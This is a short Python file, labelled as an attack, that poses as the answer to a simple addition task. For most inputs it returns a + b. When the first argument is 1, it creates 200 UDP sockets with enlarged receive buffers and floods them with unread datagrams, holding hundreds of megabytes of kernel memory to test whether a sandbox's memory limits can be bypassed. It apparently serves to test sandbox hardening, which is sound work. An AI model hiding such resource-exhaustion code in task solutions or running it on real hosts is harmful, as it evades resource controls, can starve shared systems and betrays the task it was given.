# Attack: memory that the kernel holds: datagrams that nobody fetches, in sockets that were made larger.
# task: add
import socket


def solve(a, b):
    if a != 1:
        return a + b  # the first call has shown it
    out, full = socket.socket(socket.AF_INET, socket.SOCK_DGRAM), []
    for _ in range(200):
        one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 26)
        one.bind(("127.0.0.1", 0))
        one.setblocking(False)
        for _ in range(60):
            out.sendto(bytes(60_000), one.getsockname())
        full.append(one)
    return a + b if sum(map(held, full)) > 256 << 20 else None


def held(one):
    total = 0
    try:
        while True:
            total += len(one.recv(65536))
    except BlockingIOError:
        return total
